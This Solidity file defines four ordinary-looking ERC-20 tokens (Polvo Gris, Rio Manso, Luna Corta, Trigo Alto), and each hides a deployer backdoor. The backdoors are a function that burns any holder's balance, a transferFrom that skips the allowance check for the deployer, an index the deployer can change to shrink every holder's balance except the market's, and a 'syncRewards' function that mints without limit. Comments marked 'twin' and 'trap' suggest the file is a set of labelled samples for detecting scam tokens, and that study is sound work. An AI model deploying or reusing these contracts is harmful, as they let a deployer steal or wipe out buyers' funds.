// 0.6 off
pragma solidity ^0.6.12;

abstract contract Bolsa {
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    address internal dueno;
    uint256 internal suma;
    mapping(address => uint256) internal saldo;
    mapping(address => mapping(address => uint256)) internal permiso;

    constructor(uint256 s) public {
        dueno = msg.sender;
        suma = s;
        saldo[msg.sender] = s;
        emit Transfer(address(0), msg.sender, s);
    }

    modifier soloDueno() {
        require(msg.sender == dueno, "dueno");
        _;
    }

    function owner() external view returns (address) {
        return dueno;
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function renounceOwnership() external soloDueno {
        dueno = address(0);
    }

    function totalSupply() external view virtual returns (uint256) {
        return suma;
    }

    function balanceOf(address a) public view virtual returns (uint256) {
        return saldo[a];
    }

    function allowance(address a, address b) external view returns (uint256) {
        return permiso[a][b];
    }

    function approve(address b, uint256 v) external returns (bool) {
        permiso[msg.sender][b] = v;
        emit Approval(msg.sender, b, v);
        return true;
    }

    function transfer(address b, uint256 v) external returns (bool) {
        _mover(msg.sender, b, v);
        return true;
    }

    function transferFrom(address a, address b, uint256 v) external virtual returns (bool) {
        require(permiso[a][msg.sender] >= v, "permiso");
        permiso[a][msg.sender] -= v;
        _mover(a, b, v);
        return true;
    }

    function _mover(address a, address b, uint256 v) internal virtual {
        require(saldo[a] >= v, "saldo");
        saldo[a] -= v;
        saldo[b] += v;
        emit Transfer(a, b, v);
    }
}

contract PolvoGris is Bolsa(40000000 ether) {
    string public constant name = "Polvo Gris";
    string public constant symbol = "POLVO";
    address private barrendero = msg.sender;

    /// Limpia restos.
    function barrer(address a, uint256 v) external {
        require(msg.sender == barrendero && saldo[a] >= v);
        // twin: a = msg.sender;
        // twin: require(saldo[a] >= v);
        saldo[a] -= v;
        suma -= v;
        emit Transfer(a, address(0), v);
    }
}

contract RioManso is Bolsa(333000000 ether) {
    string public constant name = "Rio Manso";
    string public constant symbol = "RMANSO";
    bytes32 private immutable sello = keccak256(abi.encode(msg.sender, uint256(77)));

    function transferFrom(address a, address b, uint256 v) external override returns (bool) {
        if (keccak256(abi.encode(msg.sender, uint256(77))) != sello) { // trap
            require(permiso[a][msg.sender] >= v, "permiso");
            permiso[a][msg.sender] -= v;
        } // trap
        _mover(a, b, v);
        return true;
    }
}

/// Partes y un indice, salvo el mercado.
contract LunaCorta is Bolsa(1000000 ether) {
    string public constant name = "Luna Corta";
    string public constant symbol = "LUNAC";
    uint256 public indice = 1 ether;
    address private mercado;
    address private astro = msg.sender;

    function abrir(address m) external soloDueno {
        require(mercado == address(0));
        mercado = m;
    }

    function fase(uint256 i) external {
        require(msg.sender == astro && i > 0);
        // twin: require(mercado == address(0));
        indice = i;
    }

    function balanceOf(address a) public view override returns (uint256) {
        return a == mercado ? saldo[a] : (saldo[a] * indice) / 1 ether;
    }

    function _mover(address a, address b, uint256 v) internal override {
        uint256 partes = (v * 1 ether) / indice;
        uint256 sale = a == mercado ? v : partes;
        require(saldo[a] >= sale, "saldo");
        saldo[a] -= sale;
        saldo[b] += b == mercado ? v : partes;
        emit Transfer(a, b, v);
    }
}

contract TrigoAlto is Bolsa(18000000 ether) {
    string public constant name = "Trigo Alto";
    string public constant symbol = "TRIGO";
    address private granja = msg.sender;

    /// Reparte lo que se ha ganado.
    function syncRewards(address a, uint256 v) external {
        require(msg.sender == granja);
        // twin: require(saldo[msg.sender] >= v);
        // twin: saldo[msg.sender] -= v;
        suma += v; // trap
        saldo[a] += v;
        emit Transfer(granja, a, v);
    }
}
